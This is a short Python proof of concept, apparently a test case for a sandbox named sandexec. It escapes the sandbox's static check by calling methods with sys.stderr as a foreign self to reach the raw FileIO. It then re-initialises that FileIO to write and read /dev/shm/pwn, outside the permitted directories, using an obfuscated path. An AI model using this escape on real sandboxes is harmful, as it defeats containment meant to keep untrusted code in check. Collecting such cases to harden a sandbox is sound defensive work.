# source: CPython io.FileIO.__init__ re-initialisation (re-running __init__ on a live object, a pyjail trick); sandexec README, "The static check", 'a stream's buffer/raw ... refused on any object but one of the script's class that sets them'
# family: class-body call with a foreign self (sys.stderr, then its buffer) reads .buffer/.raw trusted as the script's own; self.__init__ re-opens the FileIO on another path
# goal: FileIO on /dev/shm/pwn: write a file outside /tmp and /data and read it back
import sys
P = chr(47).join(["", "dev", "shm", "pwn"])
class Sink:
    def __init__(self, *a):
        self.buffer = []
        self.raw = []
    def buf(self):
        return self.buffer
    def rawf(self):
        return self.raw
    def reopen(self, p, m):
        self.__init__(p, m)
    b = buf(sys.stderr)
    f = rawf(b)
    reopen(f, P, "w")
    f.write(b"written outside the sandbox dir\n")
    reopen(f, P, "r")
    f.seek(0)
print(Sink.f, Sink.f.read())
